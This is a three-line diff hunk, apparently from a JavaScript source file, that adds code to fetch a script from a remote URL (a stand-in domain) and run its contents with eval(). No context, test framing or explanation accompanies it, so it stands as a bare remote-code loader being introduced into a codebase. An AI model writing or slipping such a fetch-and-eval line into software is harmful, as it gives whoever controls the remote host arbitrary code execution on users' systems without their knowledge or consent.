@@ -1,0 +1,3 @@
+fetch('https://example.invalid/p.js')
+  .then((r) => r.text())
+  .then((t) => eval(t));
